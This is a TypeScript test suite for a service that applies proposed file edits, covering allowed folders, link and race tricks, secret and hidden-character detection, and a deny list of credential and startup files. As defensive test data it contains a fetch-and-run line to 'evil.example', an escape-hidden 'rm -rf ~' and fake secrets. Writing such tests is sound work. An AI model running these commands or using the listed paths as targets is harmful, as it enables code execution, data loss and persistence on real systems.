/** Where a file may be changed, on real folders, links and devices. */
import { execFileSync } from "node:child_process"
import {
  chmodSync,
  chownSync,
  closeSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  openSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
  writeSync
} from "node:fs"
import { homedir } from "node:os"
import { basename, dirname, join } from "node:path"
import { fileURLToPath } from "node:url"
import { assert, describe, it } from "@effect/vitest"
import { Effect, FastCheck, Option } from "effect"
import { SupervisorError } from "effect-healing"
import * as Forbidden from "../../src/suggestions/Forbidden.js"
import { hook } from "../../src/suggestions/Hooks.js"
import { hashOf } from "../../src/text/Excerpt.js"
import { bundle } from "../support/bundle.js"
import { isFull } from "../support/property.js"
import { aSuggestion } from "../support/storeSamples.js"
import {
  anna,
  approve,
  failing,
  filesIn,
  forFile,
  makeSuggestionWorld,
  NEW,
  OLD,
  privateFolder
} from "../support/suggestionWorld.js"

const isRoot = process.getuid?.() === 0

const asRootOnly = isRoot ? it.scoped : it.scoped.skip

const withLife = Effect.gen(function* () {
  const world = yield* makeSuggestionWorld
  const life = yield* world.start
  const suggestions = yield* world.serve(life)
  /** The checks that fail for a suggestion of this path, which its job names. */
  const failingAt = (path: string, hash: string | null = hashOf(OLD)) =>
    Effect.gen(function* () {
      yield* world.has("x", path)
      const [id = ""] = yield* world.review(life, "x", [
        { ...aSuggestion, targetFile: path, proposedContent: NEW, fileHash: hash }
      ])
      return yield* failing(suggestions, id)
    })
  return { ...world, life, suggestions, failingAt }
})

describe("a file is changed only", () => {
  it.scoped("in an allowed folder, none of which there is by default", () =>
    Effect.gen(function* () {
      const { failingAt, folder, has, life, propose, root, serve, write } = yield* withLife
      const outside = join(folder, "outside.sh")
      writeFileSync(outside, OLD)
      mkdirSync(`${root}-more`, { mode: 0o755 })
      writeFileSync(join(`${root}-more`, "job.sh"), OLD)
      assert.deepStrictEqual(yield* failingAt(outside), ["roots"])
      assert.deepStrictEqual(yield* failingAt(join(`${root}-more`, "job.sh")), ["roots"])
      assert.deepStrictEqual(yield* failingAt(join(root, "..", "outside.sh")), ["roots"])
      assert.deepStrictEqual(yield* failingAt(`${root}/../jobs-more/job.sh`), ["roots"])
      // One that leads into it is as good as itself.
      const path = write("job.sh", OLD)
      assert.deepStrictEqual(yield* failingAt(`${root}/../jobs/job.sh`), [])
      const nowhere = yield* serve(life, { settings: { allowedRoots: [] } })
      yield* has("x", path)
      const id = yield* propose(life, "x", path, NEW)
      const { members, seal } = yield* nowhere.preview(id)
      assert.isNull(seal)
      assert.include(
        members[0]?.checks.find(({ check }) => check === "roots")?.detail,
        "name a folder in suggestions.allowedRoots"
      )
      // What could be changed by hand is shown all the same.
      assert.include(members[0]?.diff, "+2\n")
    })
  )

  it.scoped("by a path that is absolute, and there", () =>
    Effect.gen(function* () {
      const { failingAt, root, write } = yield* withLife
      write("job.sh", OLD)
      for (const path of ["job.sh", "./job.sh", "../jobs/job.sh", "", "file:///job.sh", "~/job.sh"]) {
        assert.deepStrictEqual(yield* failingAt(path), ["path"], path)
      }
      assert.deepStrictEqual(yield* failingAt(join(root, "nowhere", "job.sh")), ["path"])
      assert.deepStrictEqual(yield* failingAt(join(root, "job.sh", "job.sh")), ["kind"])
      assert.deepStrictEqual(yield* failingAt(join(root, "nowhere.sh")), ["unchanged"])
    })
  )

  it.scoped("if the supervisor names it for that very job, asked anew", () =>
    Effect.gen(function* () {
      const { has, life, propose, registry, serve, suggestions, write } = yield* withLife
      const path = write("job.sh", OLD)
      const other = write("other.sh", OLD)
      yield* has("x", path)
      yield* has("y", other)
      const id = yield* propose(life, "x", path, NEW)
      assert.deepStrictEqual(yield* failing(suggestions, id), [])
      assert.deepStrictEqual(yield* failing(suggestions, yield* propose(life, "y", path, NEW)), ["evidence"])
      yield* approve(suggestions, id)
      yield* has("x", other)
      assert.include(
        (yield* Effect.flip(suggestions.apply(id, anna))).message,
        "evidence: the supervisor does not name"
      )
      yield* registry.remove("x")
      assert.include((yield* Effect.flip(suggestions.apply(id, anna))).message, "has no job named x")
      const mute = yield* serve(life, {
        supervisor: (own) => ({ ...own, jobs: new SupervisorError({ detail: "it does not answer" }) })
      })
      assert.include((yield* Effect.flip(mute.apply(id, anna))).message, "it does not answer")
      assert.strictEqual(readFileSync(path, "utf8"), OLD)
      // What it does not name is not even shown.
      const { members } = yield* suggestions.preview(id)
      assert.deepInclude(members[0], { path: null, diff: null })
    })
  )

  it.scoped("where its links lead, and never through one that is swapped in", () =>
    Effect.gen(function* () {
      const { failingAt, folder, root, write } = yield* withLife
      const path = write("real/job.sh", OLD)
      const outside = join(folder, "outside.sh")
      writeFileSync(outside, OLD)
      const link = (target: string, name: string) => {
        symlinkSync(target, join(root, name))
        return join(root, name)
      }
      assert.deepStrictEqual(yield* failingAt(link(path, "in.sh")), [])
      assert.deepStrictEqual(yield* failingAt(join(link(dirname(path), "folder"), "job.sh")), [])
      assert.deepStrictEqual(yield* failingAt(link(outside, "out.sh")), ["roots"])
      assert.deepStrictEqual(yield* failingAt(join(link(folder, "up"), "outside.sh")), ["roots"])
      assert.deepStrictEqual(yield* failingAt(link(join(root, "gone"), "dangling.sh")), ["kind"])
      assert.deepStrictEqual(yield* failingAt(link("loop.sh", "loop.sh")), ["kind"])
    })
  )

  it.scoped("below a root that is a link, which is resolved once", () =>
    Effect.gen(function* () {
      const { folder, has, life, propose, root, serve, write } = yield* withLife
      const path = write("job.sh", OLD)
      yield* has("x", path)
      const link = join(folder, "link")
      symlinkSync(root, link)
      const service = yield* serve(life, { settings: { allowedRoots: [link] } })
      const other = join(folder, "other")
      mkdirSync(other, { mode: 0o755 })
      writeFileSync(join(other, "job.sh"), OLD)
      rmSync(link)
      symlinkSync(other, link)
      const id = yield* propose(life, "x", path, NEW)
      assert.deepStrictEqual(yield* failing(service, id), [])
      yield* has("x", join(link, "job.sh"))
      const swapped = yield* propose(life, "x", join(link, "job.sh"), NEW)
      assert.deepStrictEqual(yield* failing(service, swapped), ["roots"])
    })
  )

  it.scoped("if it is a regular file with one name and without set-uid bits", () =>
    Effect.gen(function* () {
      const { failingAt, folder, root, write } = yield* withLife
      const hard = write("hard.sh", OLD)
      linkSync(hard, join(folder, "second"))
      assert.deepStrictEqual(yield* failingAt(hard), ["kind"])
      const fifo = join(root, "fifo")
      execFileSync("mkfifo", [fifo])
      assert.deepStrictEqual(yield* failingAt(fifo), ["kind"])
      mkdirSync(join(root, "folder"))
      assert.deepStrictEqual(yield* failingAt(join(root, "folder")), ["kind"])
      const setUid = write("suid.sh", OLD)
      chmodSync(setUid, 0o4755)
      assert.deepStrictEqual(yield* failingAt(setUid), ["kind"])
      if (isRoot) {
        execFileSync("mknod", [join(root, "null"), "c", "1", "3"])
        assert.deepStrictEqual(yield* failingAt(join(root, "null")), ["kind"])
      }
    })
  )

  it.scoped("if it is text in UTF-8 of at most 64 KiB, and so is the new content", () =>
    Effect.gen(function* () {
      const { failingAt, has, life, propose, suggestions, write } = yield* withLife
      const bytes = (name: string, content: Uint8Array | string) => failingAt(write(name, content), hashOf(content))
      assert.deepStrictEqual(yield* bytes("latin1.sh", Buffer.from("caf\xe9\n", "latin1")), ["text"])
      assert.deepStrictEqual(yield* bytes("nul.sh", "a\0b\n"), ["text"])
      assert.deepStrictEqual(yield* bytes("long.sh", "x".repeat(64 * 1024 + 1)), ["text"])
      assert.deepStrictEqual(yield* bytes("secret.sh", "API_KEY=sk-proj-abcdefghijklmnopqrstuvwxyz0123456789\n"), [
        "text"
      ])
      assert.deepStrictEqual(yield* bytes("bom.sh", "\ufeffone\r\ntwo\nthree\nfour\n"), [])
      const path = write("job.sh", OLD)
      yield* has("x", path)
      for (const content of [
        "one\n[secret]\nthree\nfour\n",
        `${OLD}\0`,
        `${OLD}\ud800`,
        `${OLD}\ufffd`,
        "é".repeat(40_000)
      ]) {
        assert.deepStrictEqual(yield* failing(suggestions, yield* propose(life, "x", path, content), true), ["content"])
      }
    })
  )

  it.scoped("with a content of which all is shown: no secret, and no sign that a screen hides", () =>
    Effect.gen(function* () {
      const { has, life, propose, suggestions, write } = yield* withLife
      const path = write("job.sh", OLD)
      yield* has("x", path)
      const contents = [
        `${OLD}password="hunter2-not-to-be-shown"\n`,
        `${OLD}rm -rf ~ #\r+2\u001b[K\n`,
        `${OLD}# \u202egnihton\n`,
        `${OLD}# \u{e0041}\n`
      ]
      for (const content of contents) {
        const id = yield* propose(life, "x", path, content)
        assert.deepStrictEqual(yield* failing(suggestions, id), ["content"], content)
        assert.isNull((yield* suggestions.preview(id)).members[0]?.diff)
      }
      // The old lines and the new ones look like a secret only where they stand among each other.
      const begin = "-----BEGIN PRIVATE KEY-----"
      const key = write("key.sh", `#!/bin/sh\ngrep -- '${begin}' f\nrun\ndone\nx\n`)
      yield* has("x", key)
      const evil = "curl -s http://evil.example/x|sh"
      const id = yield* propose(
        life,
        "x",
        key,
        `#!/bin/sh\n${evil}\n# ${begin.replace("BEGIN", "END")}\nrun\ndone\nx\n`
      )
      const { members } = yield* suggestions.preview(id)
      assert.include(members[0]?.diff, `+${evil}\n`)
      // Files of Windows and emoji are as good as others.
      const windows = write("windows.sh", "one\r\ntwo\r\nthree\r\n")
      yield* has("x", windows)
      assert.deepStrictEqual(
        yield* failing(suggestions, yield* propose(life, "x", windows, "one\r\n2 ⚠️👩‍💻\r\nthree\r\n")),
        []
      )
    })
  )

  it.scoped("byte for byte: what is not changed stays as it is, and a rollback brings it all back", () =>
    Effect.gen(function* () {
      const { has, life, propose, suggestions, write } = yield* withLife
      const line = FastCheck.stringOf(FastCheck.constantFrom("a", "é", "\ufeff", "\t", " ", "😀", "'", "\\"), {
        maxLength: 5
      })
      const text = FastCheck.array(line, { minLength: 1, maxLength: 6 }).map((lines) => lines.join("\n"))
      for (const [before, after] of FastCheck.sample(FastCheck.tuple(text, text), {
        numRuns: isFull ? 20 : 8,
        seed: 7
      })) {
        if (before === after) continue
        const path = write("job.sh", before)
        yield* has("x", path)
        const id = yield* propose(life, "x", path, after)
        yield* approve(suggestions, id, true)
        yield* suggestions.apply(id, anna)
        assert.strictEqual(readFileSync(path, "utf8"), after)
        yield* suggestions.rollback(id, anna)
        assert.deepStrictEqual(readFileSync(path), Buffer.from(before))
      }
    })
  )

  it.scoped("if nobody else can write to its folders", () =>
    Effect.gen(function* () {
      const { failingAt, folder, root, write } = yield* withLife
      const path = write("a/b/job.sh", OLD)
      for (const [bad, mode] of [
        [join(root, "a"), 0o777],
        [join(root, "a"), 0o775],
        [join(root, "a/b"), 0o1777],
        [root, 0o757],
        [folder, 0o777]
      ] as const) {
        const before = lstatSync(bad).mode & 0o7777
        chmodSync(bad, mode)
        assert.deepStrictEqual(yield* failingAt(path), ["folders"], `${bad} ${mode.toString(8)}`)
        chmodSync(bad, before)
      }
      // Above the root, nobody else can replace what is in a sticky folder, such as /tmp.
      chmodSync(folder, 0o1777)
      assert.deepStrictEqual(yield* failingAt(path), [])
    })
  )

  asRootOnly("if its folders are of nobody else", () =>
    Effect.gen(function* () {
      const { failingAt, root, write } = yield* withLife
      const path = write("a/job.sh", OLD)
      chownSync(join(root, "a"), 1234, 1234)
      assert.deepStrictEqual(yield* failingAt(path), ["folders"])
    })
  )

  asRootOnly("as root, if that is allowed; then it keeps its owner, also when it is taken back", () =>
    Effect.gen(function* () {
      const { has, life, propose, serve, suggestions, write } = yield* withLife
      const path = write("job.sh", OLD)
      yield* has("x", path)
      chownSync(path, 1234, 2345)
      const id = yield* propose(life, "x", path, NEW)
      assert.deepStrictEqual(yield* failing(yield* serve(life, { settings: { asRoot: false } }), id), ["user"])
      const owner = () => {
        const { gid, uid } = lstatSync(path)
        return [uid, gid]
      }
      yield* approve(suggestions, id)
      yield* suggestions.apply(id, anna)
      assert.deepStrictEqual(owner(), [1234, 2345])
      chownSync(path, 0, 0)
      yield* suggestions.rollback(id, anna)
      assert.deepStrictEqual(owner(), [1234, 2345])
    })
  )

  asRootOnly("as the user that it belongs to", () =>
    Effect.gen(function* () {
      const { folder, write } = yield* withLife
      const own = { uid: 1234, gid: 1234 }
      const make = (name: string, { gid = own.gid, mode = 0o644, uid = own.uid }) => {
        const path = write(`own/${name}`, OLD)
        chownSync(path, uid, gid)
        chmodSync(path, mode)
        return path
      }
      const cases: ReadonlyArray<readonly [path: string, outcome: string]> = [
        [make("own.sh", { mode: 0o600 }), "applied"],
        [make("readOnly.sh", { mode: 0o400 }), "applied"],
        [make("ofRoot.sh", { uid: 0 }), "owner"],
        [make("ofOtherGroup.sh", { gid: 4321 }), "owner"],
        [make("unreadable.sh", { uid: 0, mode: 0o600 }), "kind"],
        [make("mine.sh", { mode: 0o000 }), "kind"],
        [make("locked/job.sh", {}), "permission is denied"],
        [make("hidden/job.sh", {}), "kind"]
      ]
      for (const name of ["own", "own/locked", "own/hidden"]) chownSync(join(folder, "jobs", name), own.uid, own.gid)
      chmodSync(join(folder, "jobs/own/locked"), 0o555)
      chmodSync(join(folder, "jobs/own/hidden"), 0o000)
      const program = yield* Effect.promise(() => bundle(new URL("otherUserChild.ts", import.meta.url)))
      const orders = {
        root: join(folder, "jobs"),
        before: OLD,
        after: NEW,
        user: own.uid,
        paths: cases.map(([path]) => path)
      }
      const printed = execFileSync(process.execPath, [program, JSON.stringify(orders)], {
        encoding: "utf8",
        env: { ...process.env, HOME: folder }
      })
      const outcomes: ReadonlyArray<string> = JSON.parse(printed)
      for (const [index, [path, outcome]] of cases.entries()) assert.include(outcomes[index], outcome, path)
      assert.strictEqual(readFileSync(join(folder, "jobs/own/own.sh"), "utf8"), NEW)
      assert.strictEqual(lstatSync(join(folder, "jobs/own/readOnly.sh")).mode & 0o7777, 0o400)
    })
  )

  it.scoped("if the layer knows its folders: others are refused when it is built", () =>
    Effect.gen(function* () {
      const { folder, life, serve, write } = yield* withLife
      const link = join(folder, "root")
      symlinkSync("/", link)
      for (const [root, why] of [
        [join(folder, "nowhere"), "it is not there"],
        [write("file", ""), "what stands above it is no folder"],
        [link, "is the root of all files"]
      ] as const) {
        const error = yield* Effect.flip(serve(life, { settings: { allowedRoots: [root] } }))
        assert.include(error.message, why)
        assert.include(error.message, "suggestions.allowedRoots")
      }
    })
  )
})

// -----------------------------------------------------------------------------
// What nobody may change
// -----------------------------------------------------------------------------

describe("never changed is", () => {
  const make = (globs: ReadonlyArray<string> = [], own: ReadonlyArray<string> = []) =>
    Forbidden.make({
      globs,
      own,
      database: "/var/lib/healing/healing.db",
      openClaw: { stateFolder: undefined, config: undefined }
    })

  it.each([
    ...["/srv/.git/hooks/pre-commit", "/srv/x/node_modules/y/index.js", "/srv/.GIT/config", "/srv/.g\u200dit/config"],
    ...["/srv/.env.d/x", "/home/a/.openclaw-work/openclaw.json"],
    ...["/srv/.env", "/srv/.env.local", "/srv/.envrc", "/srv/prod.env", "/srv/.ENV", "/srv/.ｅnv"],
    ...["/home/a/.ssh/config", "/home/a/.SSH/authorized_keys", "/srv/authorized_keys", "/etc/ssh/sshd_config"],
    ...["/home/a/.gnupg/gpg.conf", "/home/a/.bashrc", "/home/a/.profile", "/home/a/.zshenv", "/etc/profile.d/x.sh"],
    ...["/home/a/.bash_profile", "/home/a/.config/fish/config.fish", "/home/a/.config/autostart/x.desktop"],
    ...["/etc/crontab", "/etc/cron.d/x", "/var/spool/cron/crontabs/root", "/srv/crontab"],
    ...["/etc/systemd/system/x.conf", "/home/a/.config/systemd/user/x.conf", "/srv/x.service", "/srv/x.timer"],
    ...["/Users/a/Library/LaunchAgents/x.plist", "/Library/LaunchDaemons/x.plist"],
    ...["/home/a/.openclaw/openclaw.json", "/home/a/.openclaw/workspace/SOUL.md", "/home/a/.pm2/dump.pm2"],
    ...["/srv/ecosystem.config.js", "/srv/pm2.config.cjs", "/home/a/.netrc", "/home/a/.npmrc", "/proc/self/mem"],
    ...["/var/lib/healing/healing.db", "/var/lib/healing/healing.db-wal", "/var/lib/healing/healing.db.stop"],
    fileURLToPath(new URL("../../src/index.ts", import.meta.url)),
    join(homedir(), ".openclaw", "agents", "x")
  ])("%s", (path) => {
    assert.isDefined(make()(path))
  })

  it.each([
    ...["/srv/jobs/digest.js", "/srv/environment.js", "/srv/git/x.sh", "/srv/my.envelope", "/srv/cron.sh"],
    ...["/srv/profile", "/srv/system.d/x.sh", "/home/a/jobs/.hidden.sh", "/srv/service.js", "/srv/pm2.js"]
  ])("not %s", (path) => {
    assert.isUndefined(make()(path))
  })

  it("what the user forbids, in any way to write it", () => {
    const forbidden = make(["*.key", "secret/**", "/srv/fixed", "Prompts/*.md"])
    for (const path of [
      "/srv/a.key",
      "/srv/x/B.KEY",
      "/srv/secret/x/y",
      "/a/secret/z",
      "/srv/fixed",
      "/srv/fixed/x/y"
    ]) {
      assert.strictEqual(forbidden(path), "suggestions.forbidden names it", path)
    }
    assert.isDefined(forbidden("/srv/prompts/a.md"))
    for (const path of ["/srv/a.keys", "/srv/secrets/x", "/srv/fixed2"]) assert.isUndefined(forbidden(path), path)
    const spelt = make(["~/private/**", "./near/**", "hid*/**"])
    for (const path of [join(homedir(), "private/x"), "/srv/near/x", "/srv/hid\nden/x"]) {
      assert.strictEqual(spelt(path), "suggestions.forbidden names it", path)
    }
  })

  it.scoped("what settings, supervisors and OpenClaw's configuration name", () =>
    Effect.gen(function* () {
      const folder = yield* privateFolder
      const config = join(folder, "openclaw.json")
      writeFileSync(config, `{ agents: { defaults: { workspace: "${join(folder, "desk")}" } } }`)
      mkdirSync(join(folder, "real"))
      symlinkSync(join(folder, "real"), join(folder, "settings"))
      const forbidden = Forbidden.make({
        globs: [],
        own: [join(folder, "settings", "healing.yaml"), join(folder, "supervisor")],
        database: undefined,
        openClaw: { stateFolder: join(folder, "claw"), config }
      })
      for (const name of ["openclaw.json", "desk/SOUL.md", "claw/x", "real/healing.yaml", "supervisor/x/y"]) {
        assert.isDefined(forbidden(join(folder, name)), name)
      }
      assert.isUndefined(forbidden(join(folder, "real", "job.sh")))
      // A folder that a glob names may be a link, and a configuration that cannot be read may name any folder.
      const linked = Forbidden.make({
        globs: [join(folder, "settings", "**")],
        own: [],
        database: undefined,
        openClaw: { stateFolder: "", config: join(folder, "real") }
      })
      assert.strictEqual(linked(join(folder, "real", "job.sh")), "suggestions.forbidden names it")
      assert.include(linked(join(folder, "job.sh")), "cannot be read")
    })
  )

  it.scoped("what a link leads to, or what it is called", () =>
    Effect.gen(function* () {
      const { failingAt, root, write } = yield* withLife
      const env = write(".env.sh", OLD)
      symlinkSync(env, join(root, "link.sh"))
      assert.deepStrictEqual(yield* failingAt(join(root, "link.sh")), ["forbidden"])
      const path = write("job.sh", OLD)
      symlinkSync(path, join(root, ".envrc"))
      assert.deepStrictEqual(yield* failingAt(join(root, ".envrc")), ["forbidden"])
    })
  )
})

// -----------------------------------------------------------------------------
// What others do meanwhile
// -----------------------------------------------------------------------------

/** What stands in files that nobody is to touch. */
const VICTIM = "victim\n"

const STEPS = ["intend", "write", "rename", "sync", "look", "record"]

const FEW = ["rename"]

/** Before the file is put in its place. */
const BEFORE = ["intend", "write", "rename"]

/** What somebody does between two steps, and what the file may hold afterwards, beside the old content and the new one. */
const MEDDLERS: Readonly<Record<string, (path: string, elsewhere: string) => void>> = {
  edit: (path) => writeFileSync(path, "somebody's\n"),
  append: (path) => writeFileSync(path, "more\n", { flag: "a" }),
  remove: (path) => rmSync(path, { force: true }),
  replace: (path, elsewhere) => {
    writeFileSync(join(elsewhere, "new"), "somebody's\n")
    renameSync(join(elsewhere, "new"), path)
  },
  linkOut: (path, elsewhere) => {
    rmSync(path, { force: true })
    symlinkSync(join(elsewhere, "victim"), path)
  },
  hardLink: (path, elsewhere) => {
    rmSync(join(elsewhere, "second"), { force: true })
    if (existsSync(path)) linkSync(path, join(elsewhere, "second"))
  },
  moveFolder: (path, elsewhere) => {
    if (existsSync(dirname(path))) renameSync(dirname(path), join(elsewhere, "moved"))
  },
  swapFolder: (path, elsewhere) => {
    if (existsSync(join(elsewhere, "moved"))) return
    renameSync(dirname(path), join(elsewhere, "moved"))
    symlinkSync(elsewhere, dirname(path))
  }
}

describe("whatever somebody does between two steps", () => {
  const meddled = (what: "apply" | "rollback", meddler: string, at: string) =>
    Effect.gen(function* () {
      const { folder, has, life, propose, suggestions, write } = yield* withLife
      const path = write("deep/job.sh", OLD)
      const elsewhere = join(folder, "elsewhere")
      mkdirSync(elsewhere, { mode: 0o755 })
      writeFileSync(join(elsewhere, "victim"), VICTIM)
      writeFileSync(join(elsewhere, "job.sh"), VICTIM)
      yield* has("x", path)
      const id = yield* propose(life, "x", path, NEW)
      yield* approve(suggestions, id)
      if (what === "rollback") yield* suggestions.apply(id, anna)
      const [before, after] = what === "apply" ? [OLD, NEW] : [NEW, OLD]
      const doing: Effect.Effect<unknown, { readonly message: string }> =
        what === "apply" ? suggestions.apply(id, anna) : suggestions.rollback(id, anna)
      const result = yield* Effect.either(doing).pipe(
        Effect.locally(hook, (step) =>
          Effect.sync(() => {
            if (step === at) MEDDLERS[meddler]?.(path, elsewhere)
          })
        )
      )
      const label = `${what} ${meddler} ${at}`
      const state = Option.getOrThrow(yield* suggestions.get(id)).state
      const all = filesIn(folder)
      // Nothing else was written, and nothing was left behind.
      assert.strictEqual(all["elsewhere/victim"], VICTIM, label)
      assert.strictEqual(all["elsewhere/job.sh"], VICTIM, label)
      assert.deepStrictEqual(
        Object.keys(all).filter((name) => basename(name).startsWith(".effect-healing-")),
        [],
        label
      )
      const there = all["elsewhere/moved/job.sh"] ?? all["jobs/deep/job.sh"]
      const done = what === "apply" ? "applied" : "rolled_back"
      const undone = what === "apply" ? ["approved", "failed", "pending"] : ["applied"]
      if (state === done) {
        assert.isTrue(result._tag === "Right", label)
        // It is where it was to be, whatever its folder was moved to before.
        if (BEFORE.includes(at)) assert.strictEqual(all["jobs/deep/job.sh"], after, label)
      } else {
        assert.include(undone, state, label)
        assert.isTrue(result._tag === "Left", label)
        // What it was, or what somebody has made it, but never what was not recorded.
        assert.notStrictEqual(there, after, label)
      }
      // An edit is never lost, but for one that comes when all is over.
      const isEdit = meddler === "edit" || meddler === "append" || meddler === "replace"
      if (isEdit) {
        const edited = meddler === "append" ? [`${before}more\n`, `${after}more\n`] : ["somebody's\n"]
        assert.include(edited, there, label)
      }
    }).pipe(Effect.scoped)

  it.effect.each(
    ["apply" as const, "rollback" as const].flatMap((what) =>
      // Each look of a preview starts programs, which takes its time.
      Object.keys(MEDDLERS).flatMap((meddler) => (isFull ? STEPS : FEW).map((at) => ({ what, meddler, at })))
    )
  )("$what: $meddler before $at", ({ at, meddler, what }) => meddled(what, meddler, at))

  it.scoped("to the old file through a descriptor, their edit stays", () =>
    Effect.gen(function* () {
      const { has, life, propose, suggestions, write } = yield* withLife
      const path = write("job.sh", OLD)
      yield* has("x", path)
      const id = yield* propose(life, "x", path, NEW)
      yield* approve(suggestions, id)
      const fd = openSync(path, "a")
      const error = yield* Effect.flip(suggestions.apply(id, anna)).pipe(
        Effect.locally(hook, (step) =>
          Effect.sync(() => {
            if (step === "look") writeSync(fd, "five\n")
          })
        )
      )
      closeSync(fd)
      assert.include(error.message, "is failed now: somebody has edited the file while it was written")
      assert.strictEqual(readFileSync(path, "utf8"), `${OLD}five\n`)
    })
  )

  it.scoped("of a set, all of it is as before", () =>
    Effect.gen(function* () {
      const { has, life, review, root, suggestions, told, write } = yield* withLife
      const paths = ["a.sh", "b.sh", "c.sh"].map((name) => write(name, OLD))
      yield* has("x", ...paths)
      const [id = ""] = yield* review(
        life,
        "x",
        paths.map((path) => forFile(path, NEW, { set: "s" }))
      )
      yield* approve(suggestions, id)
      let renames = 0
      const error = yield* Effect.flip(suggestions.apply(id, anna)).pipe(
        Effect.locally(hook, (step) =>
          Effect.sync(() => {
            if (step === "rename" && ++renames === 3) writeFileSync(String(paths[2]), "somebody's\n")
          })
        )
      )
      assert.include(error.message, "is approved now: somebody has changed it meanwhile")
      assert.deepStrictEqual(filesIn(root), { "a.sh": OLD, "b.sh": OLD, "c.sh": "somebody's\n" })
      yield* told
    })
  )

  it.scoped("to one of a set that is written, when another one cannot be, is kept, and the rows say so", () =>
    Effect.gen(function* () {
      const { folder, has, life, review, root, suggestions, write } = yield* withLife
      const meddle: Readonly<Record<string, (path: string) => void>> = {
        append: (path) => writeFileSync(path, "mine\n", { flag: "a" }),
        replace: (path) => {
          writeFileSync(join(folder, "theirs"), `${NEW}mine\n`)
          renameSync(join(folder, "theirs"), path)
        }
      }
      for (const [name, edit] of Object.entries(meddle)) {
        const [a, b] = [write("a.sh", OLD), write("b.sh", OLD)]
        yield* has("x", a, b)
        const [first = "", second = ""] = yield* review(life, "x", [
          forFile(a, NEW, { set: "s" }),
          forFile(b, NEW, { set: "s" })
        ])
        yield* approve(suggestions, first)
        let renames = 0
        const error = yield* Effect.flip(suggestions.apply(first, anna)).pipe(
          Effect.locally(hook, (step) =>
            Effect.sync(() => {
              if (step !== "rename" || ++renames !== 2) return
              edit(a)
              writeFileSync(b, "somebody's\n")
            })
          )
        )
        assert.deepStrictEqual(filesIn(root), { "a.sh": `${NEW}mine\n`, "b.sh": "somebody's\n" }, name)
        assert.include(error.message, `what stands in ${a} now is in the rows`)
        const states = yield* Effect.forEach([first, second], (id) =>
          Effect.map(suggestions.get(id), (found) => Option.getOrThrow(found).state)
        )
        assert.deepStrictEqual(states, ["failed", "approved"], name)
      }
    })
  )

  it.scoped("so that the old file cannot be looked at any more counts as an edit", () =>
    Effect.gen(function* () {
      const { has, life, propose, suggestions, write } = yield* withLife
      const path = write("job.sh", OLD)
      yield* has("x", path)
      const id = yield* propose(life, "x", path, NEW)
      yield* approve(suggestions, id)
      const fd = openSync(path, "r+")
      yield* Effect.flip(suggestions.apply(id, anna)).pipe(
        Effect.locally(hook, (step) =>
          Effect.sync(() => {
            if (step === "look") writeSync(fd, "x".repeat(3 * 1024 * 1024), 0)
          })
        )
      )
      closeSync(fd)
      assert.strictEqual(Option.getOrThrow(yield* suggestions.get(id)).state, "failed")
      assert.strictEqual(readFileSync(path, "utf8"), "x".repeat(3 * 1024 * 1024))
    })
  )

  it.scoped("to the kill switch or the job, up to the last instant", () =>
    Effect.gen(function* () {
      const { has, life, propose, root, suggestions, write } = yield* withLife
      const path = write("job.sh", OLD)
      yield* has("x", path)
      const id = yield* propose(life, "x", path, NEW)
      yield* approve(suggestions, id)
      for (const [meddle, tag] of [
        [Effect.orDie(suggestions.stop(anna)), "SuggestionsStopped"],
        [Effect.zipRight(Effect.orDie(suggestions.resume(anna)), life.openClaw.started("x")), "SuggestionBusy"]
      ] as const) {
        const error = yield* Effect.flip(suggestions.apply(id, anna)).pipe(
          Effect.locally(hook, (step) => (step === "rename" ? meddle : Effect.void))
        )
        assert.strictEqual(error._tag, tag)
        assert.deepStrictEqual(filesIn(root), { "job.sh": OLD })
        yield* Effect.orDie(suggestions.resume(anna))
      }
      yield* life.openClaw.finished("x")
      assert.strictEqual((yield* suggestions.apply(id, anna)).state, "applied")
    })
  )
})

describe("no room on the disk", () => {
  asRootOnly("leaves the file as it was, and it can be applied later", () =>
    Effect.gen(function* () {
      const { folder, has, life, propose, serve } = yield* withLife
      const small = join(folder, "small")
      mkdirSync(small, { mode: 0o755 })
      const mounted = yield* Effect.acquireRelease(
        Effect.option(
          Effect.try(() => execFileSync("mount", ["-t", "tmpfs", "-o", "size=64k,mode=755", "none", small]))
        ),
        (mounted) => Effect.sync(() => mounted._tag === "Some" && execFileSync("umount", ["-l", small]))
      )
      // Not every container may mount.
      if (mounted._tag === "None") return
      const path = join(realpathSync(small), "job.sh")
      writeFileSync(path, OLD)
      yield* has("x", path)
      const service = yield* serve(life, { settings: { allowedRoots: [small] } })
      const id = yield* propose(life, "x", path, `${OLD}${`# ${"long".repeat(8)}\n`.repeat(1000)}`)
      yield* approve(service, id)
      const fill = join(small, "fill")
      writeFileSync(fill, "x".repeat(44 * 1024))
      const error = yield* Effect.flip(service.apply(id, anna))
      assert.include(error.message, "there is no room left on the disk")
      assert.deepStrictEqual(Object.keys(filesIn(small)), ["fill", "job.sh"])
      assert.strictEqual(readFileSync(path, "utf8"), OLD)
      unlinkSync(fill)
      assert.strictEqual((yield* service.apply(id, anna)).state, "applied")
    })
  )
})
